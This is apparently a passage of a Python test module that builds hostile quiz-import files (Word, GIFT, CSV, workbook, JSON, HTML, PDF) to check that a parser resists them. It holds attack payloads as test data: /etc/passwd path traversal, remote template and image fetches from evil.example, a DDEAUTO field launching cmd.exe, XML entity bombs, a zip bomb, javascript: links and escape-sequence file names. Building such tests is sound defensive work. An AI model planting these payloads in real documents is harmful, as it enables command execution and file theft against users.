    yield "pictures from elsewhere", word(paragraphs("1. What?") + "".join(drawn.format("x", n) for n in range(6)) + paragraphs(*_ASKED[1:]), {"word/_rels/document.xml.rels": rels.format("".join(image.format(n, target) for n, target in enumerate(("../../../etc/passwd", "file:///etc/passwd", "https://evil.example/x.png", "media/x.png", "/word/document.xml", "media/")))).encode(), "word/media/x.png": b"<script>"})  # fmt: skip
    yield "a picture again and again", lambda: word(paragraphs("1. What?") + drawn.format("x" * 900, 0) * 20_000 + paragraphs(*_ASKED[1:]), {"word/_rels/document.xml.rels": rels.format(image.format(0, "media/x.png")).encode(), "word/media/x.png": base64.b64decode(_PNG)})  # fmt: skip
    yield "a description that is live", word(paragraphs("1. What?") + drawn.format("](javascript:pwned()) &lt;script&gt; \u202e", 0) + paragraphs(*_ASKED[1:]), {"word/_rels/document.xml.rels": rels.format(image.format(0, "media/x.png")).encode(), "word/media/x.png": base64.b64decode(_PNG)})  # fmt: skip
    yield "pictures of 60 MB", lambda: word(asked, {"word/_rels/document.xml.rels": rels.format("".join(image.format(n, f"media/{n}.png") for n in range(20))).encode(), **{f"word/media/{n}.png": bytes(7 * MIB) for n in range(20)}})  # fmt: skip
    yield "an entity", word(asked.replace("This", "&a;"), head=_OUTSIDE)
    yield "entities in entities", word(asked.replace("This", "&a11;"), head=_ENTITIES)
    yield "an entity in relations", word(asked, {"word/_rels/document.xml.rels": (_OUTSIDE + rels.format("&a;")).encode()})  # fmt: skip
    yield "a bomb", lambda: archive([Entry("word/document.xml", b"<a>" + b" " * 300_000_000)])
    yield "formulas", word("<w:p><w:r><w:t>1. What?</w:t></w:r><w:oMath>" + "<w:r><w:t>\\(\\href{javascript:x}{y}\\)</w:t></w:r>" * 900 + "</w:oMath></w:p>" + paragraphs(*_ASKED[1:]))  # fmt: skip
    yield "a field", word('<w:p><w:r><w:instrText>DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r></w:p>' + asked)  # fmt: skip
    yield "a chunk from elsewhere", word('<w:altChunk r:id="r9"/>' + asked, {"word/_rels/document.xml.rels": rels.format('<Relationship Id="r9" Type="x/aFChunk" Target="file:///etc/passwd" TargetMode="External"/>').encode()})  # fmt: skip
    yield "a template from elsewhere", word(asked, {"word/_rels/settings.xml.rels": rels.format('<Relationship Id="r1" Type="x/attachedTemplate" Target="https://evil.example/x.dotm" TargetMode="External"/>').encode()})  # fmt: skip
    yield "changes", word("<w:ins>" * 100 + asked + "</w:ins>" * 100)
    yield "no body", archive([Entry("word/document.xml", b"<w/>")])
    yield "nothing in it", archive([Entry("word/document.xml", b"")])


def _other() -> Iterator[tuple[str, str, Content]]:
    """Name, file and content."""
    yield "a device", "q.xml", Link("/dev/zero")
    yield "a link to home", "q.gift", Link("../home/notes.txt")
    yield "a link to itself", "q.csv", Link("q.csv")
    yield "a folder", "q.xlsx", None
    yield "nothing", "q.gift", ""
    yield "blanks", "q.txt", " \n" * 90_000
    yield "a name of escapes", "q\x1b]0;x\x07\u202e.gift", "What? {=a ~b}"
    yield "no ending", "q", "What? {=a ~b}"
    yield "json", "q.json", json.dumps([{"question": "x"}]) + "[" * 90_000
    yield "qti", "q.zip", archive([Entry("imsmanifest.xml", b"<manifest>" + b"<a>" * 90_000)])
    yield "a page", "q.html", "<p>" * 90_000
    yield "a pdf", "q.pdf", b"%PDF-1.7\n" + b"[" * 90_000


def cases() -> Iterator[Case]:
    """The hostile files of this module."""
    groups: tuple[tuple[str, str, Callable[[], Iterator[tuple[str, Content]]]], ...] = (
        ("moodle", "xml", _moodle),
        ("gift", "gift", _gift),
        ("table", "csv", _tables),
        ("workbook", "xlsx", _workbooks),
        ("word", "docx", _word),
    )
    found = [(f"{group}: {name}", f"q.{ending}", content) for group, ending, made in groups for name, content in made()]
    found += [(f"lines: {name}", f"q.{ending}", content) for name, ending, content in _lines()]
    found += [(f"spreadsheet: {name}", f"q.{ending}", content) for name, ending, content in _spreadsheets()]
    found += [(f"other: {name}", file, content) for name, file, content in _other()]
    for name, file, content in found:
        yield Case("questions", name, lambda file=file, content=content: {file: content}, file)
